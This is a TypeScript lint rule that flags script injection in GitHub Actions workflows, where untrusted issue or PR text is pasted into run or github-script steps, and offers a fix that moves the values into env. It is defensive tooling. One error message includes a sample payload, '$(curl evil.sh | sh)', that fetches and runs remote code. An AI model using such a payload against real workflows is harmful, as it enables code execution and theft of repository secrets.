import { type ExpressionSpan, findExpressions, parseCondition, usesStatusFunction } from '../../engine/languages/expressions';
import type { Severity, TextEdit } from '../../engine/core/finding';
import { onlyBotsPass } from '../../engine/model/actors';
import { byJobId, crossJobVerdicts } from '../../engine/model/crossJob';
import { graphOf } from '../../engine/model/jobGraph';
import { stepCondition } from '../../engine/model/jobKind';
import { carriersOf, fromDispatchPayload, JOB_OUTPUT_TAINTS, jobTaint, type JobTaint, SCRIPT_INPUTS, type Taint, taintChain } from '../../engine/model/taint';
import { mayRunPrivileged, workflowTriggers } from '../../engine/model/triggers';
import type { Step } from '../../engine/model/workflow';
import { defineRule } from '../../engine/core/rule';
import { scalarText, type ScalarText } from '../../engine/yaml/scalarText';
import { insertMapEntry } from '../../engine/edits/yamlEdit';
import { type Field, isMap, isScalar, mapFields, type Scalar, spanOf, type YamlDoc, type YamlFile } from '../../engine/yaml/yamlFile';
import type { Preset } from '../../engine/core/presets';

export default defineRule({
  id: 'gha/script-injection',
  presets: { recommended: 'error', strict: 'error' },
  dora: ['change-failure-rate'],
  capabilities: ['shift-left-security'],
  fixable: 'suggestion',
  messages: {
    run: (expression: string, source: string) =>
      `'${expression}' is pasted into the script before it runs, and ${source}: a value like '$(curl evil.sh | sh)' runs as a command. Pass it through 'env:' and use the variable.`,
    githubScript: (expression: string, source: string) =>
      `'${expression}' is pasted into the JavaScript before it runs, and ${source}: a quote in it ends the string and the rest runs as code. Pass it through 'env:' and read 'process.env'.`,
    actionScript: (expression: string, input: string, action: string, source: string) =>
      `'${expression}' is pasted into the '${input}' script that '${action}' runs, and ${source}: the value becomes code. Pass it through the step's 'env:' and read the variable in the script.`,
    absentEvent: (expression: string, where: string, source: string, events: string, carriers: string) =>
      `'${expression}' is pasted into ${where}, but ${source} is empty here: no event this workflow runs on (${events}) carries it. Under ${carriers} it holds text its author chooses (a title, a body, a branch name, a commit message), which would run as code: if the workflow is meant to read it, pass it through 'env:'; if not, remove it.`,
    actionOutput: (expression: string, where: string, source: string, action: string) =>
      `'${expression}' is pasted into ${where}, and ${source} is an output of '${action}': its text is set by the action, not by this workflow, and is read as code rather than as data. Pass it through 'env:' and read the variable in the script, so whatever it holds stays data.`,
  },
  docs: {
    summary: 'Never interpolate untrusted text (`${{ github.event.issue.title }}`, or an `env:` entry, step output, job output or matrix value built from it) into a script.',
    rationale:
      '`${{ }}` expressions are expanded into the text of a script before the shell or Node sees it, so the value becomes code, not data. Titles, bodies and comments of issues and pull requests, branch names, commit messages and author names are all chosen by whoever opens them, including people with no access to the repository. One crafted title can then run commands with the workflow\'s token and secrets. An environment variable is passed as data and is never parsed as code. ' +
      'The rule follows such text through the workflow: an `env:` entry (workflow, job or step) set from it, a step output a `run:` step writes from it (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"`), a job output mapped to such a step output (read as `needs.<job>.outputs.<name>`), and a matrix built from it (`fromJSON(...)`); the message says how the text got there. Free-text inputs of `workflow_dispatch` and `workflow_call` (and every input of a composite action) are reported too, but milder: whoever starts or calls the workflow chooses them; so is the payload of a `repository_dispatch` (`github.event.client_payload.*`), which whoever sends the event chooses (anyone with a token that can write to the repository; in the `strict` preset only), and a matrix built from it. ' +
      'Scripts are `run:` in any shell, `actions/github-script`\'s `script:`, and the script inputs of well-known actions (`azure/cli` and `azure/powershell` `inlineScript`, `mikefarah/yq` `cmd`, `Amadevus/pwsh-script` and `jannekem/run-python-script-action` `script`, `addnab/docker-run-action` `run`, `appleboy/ssh-action` `script`). ' +
      'Contexts that are not free text (`github.sha`, `github.run_id`, `github.ref`, numbers, flags such as `…draft`, logins, boolean, number and choice inputs) are not flagged, nor are expressions whose result is a boolean (comparisons, `!`, `contains()`, `startsWith()`, `endsWith()`), nor a whole object pasted as it is (`${{ github.event }}` renders as the word `Object`; `toJSON(github.event)` does paste its text and is flagged), nor expressions in `env:` or in `with:` of other actions. ' +
      'It is an error when the workflow may run on an event that hands a stranger\'s text to a job with secrets and a writable token (`pull_request_target`, `issues`, `issue_comment`, `discussion`, `discussion_comment`, `workflow_run`, `gollum`, or an event it cannot know: a reusable workflow, a composite action); a warning when it runs only on other events (on `pull_request` a fork\'s text runs with a read-only token and no secrets; on `push` the text comes from people who can push); info when the step or its job runs only for a bot author (`if: github.actor == \'dependabot[bot]\'`, also through `needs:`). Inputs are a warning in `strict`; in the default preset only inputs typed in at `workflow_dispatch` are reported, as info (on the corpus, inputs of `workflow_call` and composite actions were nearly always their callers\' own constants). ' +
      'In `strict` the rule also gives a hint for event text that no event the workflow runs on carries (`github.event.issue.title` in a workflow that runs only on `pull_request`, `github.head_ref` in one that runs on `schedule`): it is empty there, so nothing is injected today, but the script is not doing what it reads as (a comparison with it never matches), and the text would run as code as soon as the workflow also ran on an event that carries it. ' +
      'In `strict` it also gives a hint for an output of an action (`steps.<id>.outputs.<name>` of a `uses:` step, directly or through an `env:` entry, in a workflow or a composite action) pasted into a script: its text is set by the action, not by the workflow, and is read as code; passing it through `env:` keeps it data whatever it holds. It is hardening advice, not a finding of injection: on the corpus most such outputs were versions, paths, digests, test lists and values a script had already checked against a pattern, a few were text from the API (a pull request\'s branch name) or from files (a changelog). Outputs known to hold no free text stay quiet: flags, counts, ids and digests of well-known actions (`actions/cache` `cache-hit`, `dorny/paths-filter` filters, `tj-actions/changed-files` `any_changed` and `…_count`, `docker/build-push-action` `digest`, …), a numeric member picked from an output\'s JSON (`fromJSON(steps.runs.outputs.data).workflow_runs[0].id`), and outputs a `run:` step writes (the rule reads what it writes: from untrusted text they are reported as such, from constants not at all). An output of a step that does not run before this one is empty, and is `gha/expression`\'s to report. The default preset says nothing about outputs of actions.',
    symptom:
      'An issue or pull request with an odd title (backticks, `$( )`, quotes) makes a triage or labelling workflow fail, or silently run extra commands; secrets or the GITHUB_TOKEN are exfiltrated.',
    fix: 'Move each such expression into the step\'s `env:` and use the variable in the script, the way its shell reads it: `"$PR_TITLE"` in bash and sh, `$env:PR_TITLE` in PowerShell, `process.env.PR_TITLE` in github-script, and `!PR_TITLE!` in cmd with `setlocal EnableDelayedExpansion` added as the script\'s first line (cmd expands `%PR_TITLE%` before it parses the line, so that form would still run the text as code; delayed expansion reads it after). An `${{ env.X }}` becomes a reference to `X`, which the step already has. The quick-fix does this, choosing names that do not clash with existing variables, in whichever shell the step runs (its `shell:`, the job\'s or workflow\'s `defaults: run: shell:`, or the runner\'s default). No fix is offered for Python or other custom shells, for cmd scripts that use `!` themselves (delayed expansion would eat it) or are not block scalars, nor for script inputs of actions other than github-script (they run in a container or on another host, where the step\'s `env:` does not reach).',
    bad: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue - \${{ github.event.issue.title }}"
`,
    good: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue - $TITLE (#\${{ github.event.issue.number }})"
        env:
          TITLE: \${{ github.event.issue.title }}
`,
  },
  scope: 'job',
  visit: {
    step(step, ctx) {
      const script = scriptOf(step, ctx.file);
      if (!script) return;
      const workflow = step.job.workflow;
      // strict also notes event text the workflow's events do not carry (empty here, a hazard under the events that do).
      const taint = jobTaint(step.job, ctx.doc, workflow.kind === 'workflow' ? ctx.acrossJobs(JOB_OUTPUT_TAINTS) : {}, { wide: ctx.preset !== 'recommended' });
      const found = untrustedExpressions(script.value, taint, step);
      if (found.length === 0) return;
      const fixable = script.text && script.lang !== 'other' && (script.lang !== 'cmd' || cmdFixable(script));
      const edits = fixable ? fixEdits(ctx.file, ctx.doc, step, script, found) : undefined;
      const severity = severityFor(step, ctx.doc, workflow.kind === 'workflow' ? ctx.acrossJobs(BOT_GATED) : byJobId<true>());
      for (const { expression, taint: source } of found) {
        const span = script.text?.sourceSpan(expression.start, expression.end) ?? script.span;
        const pasted = script.value.slice(expression.start, expression.end);
        const said = describe(source, workflow.kind);
        // Measured on the corpus: inputs a caller passes are almost always the caller's own constants; only inputs
        // typed in at workflow_dispatch are worth a note by default.
        if (source.level === 'input' && ctx.preset === 'recommended' && !source.dispatched) continue;
        const level = source.level === 'input' ? inputSeverity(ctx.preset) : severity;
        const fix = edits ? { fix: { title: "Pass untrusted values through 'env:'", edits } } : {};
        const where = script.kind === 'run' ? 'the script' : script.kind === 'githubScript' ? 'the JavaScript' : `the '${script.input ?? ''}' script that '${step.uses ?? ''}' runs`;
        const via = source.chain.length > 0 ? ` (${taintChain(source)})` : '';
        if (source.level === 'action') {
          // Text an action sets: not known to be anyone's choice, so a hint (strict only) with the hardening advice.
          ctx.report({ span, message: 'actionOutput', args: [pasted, where, `'${source.origin}'${via}`, source.action ?? ''], severity: 'hint', ...fix });
          continue;
        }
        if (source.level === 'absent') {
          // Empty under every event the workflow runs on: not an injection today, so a hint that says what is true.
          const events = [...workflowTriggers(workflow, ctx.doc).events.keys()].map((event) => `'${event}'`).join(', ');
          const carriers = (carriersOf(source.origin) ?? []).map((event) => `'${event}'`);
          const carried = carriers.length > 1 ? `${carriers.slice(0, -1).join(', ')} or ${carriers[carriers.length - 1]}` : (carriers[0] ?? 'other events');
          ctx.report({ span, message: 'absentEvent', args: [pasted, where, `'${source.origin}'${via}`, events, carried], severity: 'hint', ...fix });
          continue;
        }
        // One fix moves every expression of the step at once, whichever finding it is invoked from.
        if (script.kind === 'action') ctx.report({ span, message: 'actionScript', args: [pasted, script.input ?? '', step.uses ?? '', said], ...(level ? { severity: level } : {}), ...fix });
        else ctx.report({ span, message: script.kind, args: [pasted, said], ...(level ? { severity: level } : {}), ...fix });
      }
    },
  },
});

/** Who chooses the text a taint holds, and how it got here, as the message says it. */
function describe(taint: Taint, kind: 'workflow' | 'composite-action'): string {
  const via = taint.chain.length > 0 ? ` (${taintChain(taint)})` : '';
  if (taint.level === 'event') return `'${taint.path}' holds text that whoever opens an issue, pull request or branch chooses${via}`;
  const who = fromDispatchPayload(taint)
    ? "whoever sends the 'repository_dispatch' event (anyone with a token that can write to the repository)"
    : kind === 'composite-action'
      ? 'whoever uses this action'
      : 'whoever starts or calls this workflow';
  return `'${taint.path}' holds free text that ${who} chooses${via || ` ('${taint.origin}')`.replace(` ('${taint.path}')`, '')}`;
}

/** Inputs are chosen by people who can start or call the workflow: a note by default, a warning in strict. */
function inputSeverity(preset: Preset): Severity {
  return preset === 'recommended' ? 'info' : 'warning';
}

/**
 * How bad an injection is where the step runs: info when only bots' text reaches it (the step or its job, or a job
 * it needs, runs only for a bot author); the rule's error when the workflow may run on an event that gives a
 * stranger's text secrets and a writable token (or on an event it cannot know); a warning otherwise.
 */
function severityFor(step: Step, yaml: YamlDoc, botGated: Readonly<Record<string, true>>): Severity | undefined {
  if (onlyBotsPass(stepCondition(step)) || (!step.job.synthetic && botGated[step.job.id])) return 'info';
  if (step.job.workflow.kind !== 'workflow' || mayRunPrivileged(workflowTriggers(step.job.workflow, yaml))) return undefined;
  return 'warning';
}

/**
 * The jobs that run only for bot authors: their `if:` lets only bots through, or they need such a job and their
 * `if:` calls no status function (so they are skipped with it).
 */
const BOT_GATED = crossJobVerdicts<true>('script-injection-bot-gated', ({ jobs }) => {
  const graph = graphOf(jobs);
  const gated = byJobId<true>();
  const visiting = new Set<string>();
  const isGated = (id: string): boolean => {
    const job = graph.job(id);
    if (!job || visiting.has(id)) return false;
    if (gated[id]) return true;
    visiting.add(id);
    const parsed = job.ifText === undefined ? undefined : parseCondition(job.ifText);
    const skippedWithNeeds = !(parsed?.ok && usesStatusFunction(parsed.ast)) && !(job.hasIf && !parsed?.ok);
    const result = onlyBotsPass(job.ifText) || (skippedWithNeeds && graph.needs(job).some((need) => isGated(need.id)));
    visiting.delete(id);
    if (result) gated[id] = true;
    return result;
  };
  for (const job of jobs) isGated(job.id);
  return gated;
});

interface Script {
  kind: 'run' | 'githubScript' | 'action';
  /**
   * What reads the script: a POSIX shell, PowerShell, cmd, JavaScript, or something else (python, an action's own
   * language: no fix). cmd is fixed with delayed expansion (`!NAME!`): `%NAME%` is expanded before the line is parsed.
   */
  lang: 'shell' | 'pwsh' | 'cmd' | 'js' | 'other';
  value: string;
  text: ScalarText | undefined;
  span: { start: number; end: number };
  /** The YAML style of the scalar holding the script: replacements are escaped for it. */
  style: Scalar['type'];
  /** For an action's script input: its name as written. */
  input?: string;
}

function scriptOf(step: Step, file: YamlFile): Script | undefined {
  if (step.run) {
    const kind = step.shell.kind;
    const lang = kind === 'posix' ? 'shell' : kind;
    return { kind: 'run', lang, value: step.run.value, text: step.run.text, span: step.run.span, style: step.run.node.type };
  }
  const inputs = step.action?.id === undefined ? undefined : SCRIPT_INPUTS.get(step.action.id);
  if (!inputs) return undefined;
  for (const [name, field] of step.inputs) {
    const lang = inputs.get(name.toLowerCase());
    const node = field.value;
    if (lang === undefined || !isScalar(node) || typeof node.value !== 'string') continue;
    const kind = step.action!.id === 'actions/github-script' ? 'githubScript' : 'action';
    return { kind, lang, value: node.value, text: scalarText(file.text, node), span: spanOf(node), style: node.type, input: name };
  }
  return undefined;
}

interface Found {
  expression: ExpressionSpan;
  taint: Taint;
}

function untrustedExpressions(script: string, taint: JobTaint, step: Step): Found[] {
  const found: Found[] = [];
  for (const expression of findExpressions(script)) {
    const source = taint.expressionTaint(expression.inner, step);
    if (source && taint.reaches(source, step)) found.push({ expression, taint: source });
  }
  return found;
}

/** cmd is fixed by turning on delayed expansion, which would eat any other `!` of the script: only block scripts without one. */
function cmdFixable(script: Script): boolean {
  if (script.style !== 'BLOCK_LITERAL' && script.style !== 'BLOCK_FOLDED') return false;
  let outside = '';
  let from = 0;
  for (const expression of findExpressions(script.value)) {
    outside += script.value.slice(from, expression.start);
    from = expression.end;
  }
  return !(outside + script.value.slice(from)).includes('!');
}

/**
 * `github.event.pull_request.head.ref` → `PR_HEAD_REF`, `github.event.issue.title` → `ISSUE_TITLE`,
 * `steps.meta.outputs.title` / `needs.meta.outputs.title` → `TITLE`, `inputs.name` → `INPUTS_NAME`.
 */
function envName(path: string): string {
  const output = /^(?:steps|needs)\.[^.]+\.outputs\.([^.]+)$/i.exec(path);
  const segments = output
    ? [output[1]!]
    : path
        .split('.')
        .filter((segment) => segment.toLowerCase() !== 'github' && segment.toLowerCase() !== 'event' && segment !== '*' && !/^\d+$/.test(segment))
        .map((segment) => (segment.toLowerCase() === 'pull_request' ? 'pr' : segment));
  const name = segments.slice(-3).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
  return name === '' ? 'GITHUB_EVENT' : /^[0-9]/.test(name) ? `_${name}` : name;
}

function envEntries(yaml: YamlDoc, fields: ReadonlyMap<string, Field>): string[] {
  const env = fields.get('env')?.value;
  return isMap(env) ? [...mapFields(yaml, env).keys()] : [];
}

function fixEdits(file: YamlFile, yaml: YamlDoc, step: Step, script: Script, found: Found[]): TextEdit[] | undefined {
  const envNode = step.fields.get('env')?.value;
  if (step.fields.has('env') && !isMap(envNode)) return undefined;
  const taken = new Set([
    ...envEntries(yaml, step.fields),
    ...envEntries(yaml, step.job.fields),
    ...envEntries(yaml, step.job.workflow.fields),
    ...[...script.value.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!),
    ...[...script.value.matchAll(/\$\{?env:([A-Za-z_][A-Za-z0-9_]*)/gi)].map((match) => match[1]!),
    ...[...script.value.matchAll(/process\.env\.([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!),
  ]);
  const names = new Map<string, string>(); // expression source → variable
  const existing = new Set<string>(); // variables already in the step's environment (`env.X`)
  const edits: TextEdit[] = [];
  const contexts =
    script.lang === 'shell' ? shellContexts(script.value) : script.lang === 'pwsh' ? pwshContexts(script.value) : script.lang === 'cmd' ? () => 'none' as const : jsContexts(script.value);
  for (const { expression, taint } of found) {
    const source = expression.inner.trim();
    let name = names.get(source);
    if (!name) {
      const variable = taint.variable;
      if (variable && /^[A-Za-z_][A-Za-z0-9_]*$/.test(variable) && /^env\.[A-Za-z_][A-Za-z0-9_]*$/i.test(source)) {
        name = variable;
        existing.add(source);
      } else {
        const base = envName(taint.path);
        name = base;
        for (let n = 2; taken.has(name); n++) name = `${base}_${n}`;
        taken.add(name);
      }
      names.set(source, name);
    }
    const replacement = reference(name, script.value, expression, contexts, script.lang);
    const span = replacement && script.text!.sourceSpan(replacement.start, replacement.end);
    const newText = replacement && inYaml(script, replacement);
    if (!span || newText === undefined) return undefined;
    edits.push({ ...span, newText });
  }
  if (script.lang === 'cmd' && !script.value.split('\n').some((line) => /^setlocal\s+enabledelayedexpansion\b/i.test(line.trim()))) {
    // Delayed expansion (`!NAME!`) reads the variable after cmd has parsed the line, so its text stays data.
    const at = script.text!.sourceOffset(0);
    if (at === undefined) return undefined;
    const indent = file.text.slice(file.text.lastIndexOf('\n', at - 1) + 1, at);
    if (indent.trim() !== '') return undefined;
    edits.push({ start: at, end: at, newText: `setlocal EnableDelayedExpansion\n${indent}` });
  }
  const lines = [...names].filter(([source]) => !existing.has(source)).map(([source, name]) => `${name}: ${yamlValue(`\${{ ${source} }}`)}`);
  if (lines.length === 0) return edits;
  const envEdit = isMap(envNode) ? insertMapEntry(file, envNode, lines.join('\n')) : insertMapEntry(file, step.node, ['env:', ...lines.map((line) => `  ${line}`)].join('\n'));
  if (!envEdit) return undefined;
  return [...edits, envEdit];
}

/** The replacement as it must be written inside the YAML scalar; undefined when a plain scalar would change meaning. */
function inYaml(script: Script, replacement: { start: number; text: string }): string | undefined {
  switch (script.style) {
    case 'QUOTE_DOUBLE':
      return replacement.text.replace(/[\\"]/g, (ch) => `\\${ch}`);
    case 'QUOTE_SINGLE':
      return replacement.text.replace(/'/g, "''");
    case 'PLAIN':
      // A plain scalar may not start with a quote: it would turn into a quoted one.
      return replacement.start === 0 && /^['"]/.test(replacement.text) ? undefined : replacement.text;
    default:
      return replacement.text;
  }
}

/** A plain YAML scalar unless the text would be read as something else. */
function yamlValue(text: string): string {
  return /: |\s#|:$/.test(text) ? `'${text.replace(/'/g, "''")}'` : text;
}

type Quoting = 'none' | 'single' | 'double' | 'heredoc' | 'heredoc-literal' | 'template';

/**
 * What replaces the expression (script offsets and text). A string that holds nothing but the
 * expression is replaced whole: `'${{ x }}'` → `"$X"`, JavaScript `"${{ x }}"` → `process.env.X`.
 */
function reference(
  name: string,
  script: string,
  { start, end }: ExpressionSpan,
  contexts: (offset: number) => Quoting,
  lang: Script['lang'],
): { start: number; end: number; text: string } | undefined {
  const quoting = contexts(start);
  const quote = quoting === 'single' ? "'" : quoting === 'double' ? '"' : quoting === 'template' ? '`' : undefined;
  const opensHere = quote !== undefined && script[start - 1] === quote && contexts(start - 1) !== quoting;
  const closesHere = quote !== undefined && script[end] === quote;
  if (lang === 'js') {
    // toJSON() gave a JavaScript literal; the variable holds its JSON text.
    const variable = /^\s*tojson\(/i.test(script.slice(start + 3, end - 2)) ? `JSON.parse(process.env.${name})` : `process.env.${name}`;
    if (opensHere && closesHere) return { start: start - 1, end: end + 1, text: variable };
    if (quoting === 'template') return { start, end, text: `\${${variable}}` };
    if (quote) return { start, end, text: `${quote} + ${variable} + ${quote}` };
    return { start, end, text: variable };
  }
  if (lang === 'cmd') return { start, end, text: `!${name}!` };
  if (lang === 'pwsh') {
    // PowerShell reads environment variables as `$env:NAME`, braced when a name character follows; it never splits them into words.
    const variable = /[A-Za-z0-9_:]/.test(script[end] ?? '') ? `\${env:${name}}` : `$env:${name}`;
    if (quoting === 'single') return opensHere && closesHere ? { start: start - 1, end: end + 1, text: variable } : undefined;
    return { start, end, text: variable };
  }
  const bare = /[A-Za-z0-9_]/.test(script[end] ?? '') ? `\${${name}}` : `$${name}`;
  switch (quoting) {
    case 'none':
      return { start, end, text: `"$${name}"` };
    case 'double':
    case 'heredoc':
      return { start, end, text: bare };
    case 'single': {
      // Close the single quotes around a double-quoted variable, dropping quotes that would be left empty.
      const from = opensHere ? start - 1 : start;
      const to = closesHere ? end + 1 : end;
      return { start: from, end: to, text: `${opensHere ? '' : "'"}"$${name}"${closesHere ? '' : "'"}` };
    }
    default:
      return undefined; // a quoted heredoc never expands variables
  }
}

/** For each offset of a shell script, how it is quoted there (single, double, heredoc body, none). */
function shellContexts(script: string): (offset: number) => Quoting {
  const states = new Array<Quoting>(script.length + 1).fill('none');
  let state: Quoting = 'none';
  const pending: { tag: string; literal: boolean; strip: boolean }[] = [];
  let i = 0;
  while (i < script.length) {
    const ch = script[i]!;
    states[i] = state;
    if (state === 'single') {
      if (ch === "'") state = 'none';
      i++;
      continue;
    }
    if (state === 'double') {
      if (ch === '\\') {
        states[i + 1] = state;
        i += 2;
        continue;
      }
      if (ch === '"') state = 'none';
      i++;
      continue;
    }
    if (ch === '\\') {
      states[i + 1] = state;
      i += 2;
      continue;
    }
    if (ch === "'") state = 'single';
    else if (ch === '"') state = 'double';
    else if (ch === '#' && (i === 0 || /\s/.test(script[i - 1]!))) {
      while (i < script.length && script[i] !== '\n') states[i++] = state;
      continue;
    } else if (ch === '<' && script[i + 1] === '<' && script[i + 2] !== '<') {
      const match = /^<<(-?)\s*(['"]?)([A-Za-z0-9_.-]+)\2/.exec(script.slice(i));
      if (match) {
        pending.push({ tag: match[3]!, literal: match[2] !== '', strip: match[1] === '-' });
        for (let k = 0; k < match[0].length; k++) states[i + k] = state;
        i += match[0].length;
        continue;
      }
    } else if (ch === '\n' && pending.length > 0) {
      i++;
      for (const heredoc of pending) {
        while (i < script.length) {
          const end = script.indexOf('\n', i);
          const stop = end < 0 ? script.length : end;
          const line = script.slice(i, stop);
          const done = (heredoc.strip ? line.replace(/^\t+/, '') : line).trim() === heredoc.tag;
          for (let k = i; k <= stop; k++) states[k] = done ? 'none' : heredoc.literal ? 'heredoc-literal' : 'heredoc';
          i = stop + 1;
          if (done) break;
        }
      }
      pending.length = 0;
      continue;
    }
    i++;
  }
  return (offset) => states[offset] ?? 'none';
}

/**
 * For each offset of a PowerShell script, how it is quoted there: single (`'…'`, `@'…'@`: literal), double (`"…"`,
 * `@"…"@`: expands `$env:X`), or none. A backtick escapes the next character outside single quotes.
 */
function pwshContexts(script: string): (offset: number) => Quoting {
  const states = new Array<Quoting>(script.length + 1).fill('none');
  let state: Quoting = 'none';
  let hereString = false;
  for (let i = 0; i < script.length; i++) {
    const ch = script[i]!;
    states[i] = state;
    if (state === 'none') {
      if (ch === '`') states[++i] = state;
      else if (ch === '#') while (i + 1 < script.length && script[i + 1] !== '\n') states[++i] = state;
      else if (ch === '@' && (script[i + 1] === '"' || script[i + 1] === "'") && /^[ \t]*(\r?\n|$)/.test(script.slice(i + 2, i + 40))) {
        state = script[i + 1] === '"' ? 'double' : 'single';
        hereString = true;
        states[++i] = 'none';
      } else if (ch === "'") state = 'single';
      else if (ch === '"') state = 'double';
      continue;
    }
    const quote = state === 'single' ? "'" : '"';
    if (hereString) {
      // A here-string ends at `'@` / `"@` at the start of a line.
      if (ch === quote && script[i + 1] === '@' && (i === 0 || script[i - 1] === '\n')) {
        states[++i] = state;
        state = 'none';
        hereString = false;
      }
    } else if (state === 'double' && ch === '`') states[++i] = state;
    else if (ch === quote && script[i + 1] === quote) states[++i] = state;
    else if (ch === quote) state = 'none';
  }
  return (offset) => states[offset] ?? 'none';
}

/** For each offset of a JavaScript snippet, whether it is inside a string or template literal. */
function jsContexts(script: string): (offset: number) => Quoting {
  const states = new Array<Quoting>(script.length + 1).fill('none');
  let quote: string | undefined;
  for (let i = 0; i < script.length; i++) {
    const ch = script[i]!;
    states[i] = quote === undefined ? 'none' : quote === "'" ? 'single' : quote === '"' ? 'double' : 'template';
    if (quote !== undefined) {
      if (ch === '\\') {
        states[++i] = states[i - 1]!;
        continue;
      }
      // `${{ }}` inside a template literal is GitHub's, not a JavaScript substitution.
      if (ch === quote) quote = undefined;
      continue;
    }
    if (ch === '/' && script[i + 1] === '/') {
      while (i < script.length && script[i] !== '\n') states[i++] = 'none';
      continue;
    }
    if (ch === "'" || ch === '"' || ch === '`') quote = ch;
  }
  return (offset) => states[offset] ?? 'none';
}
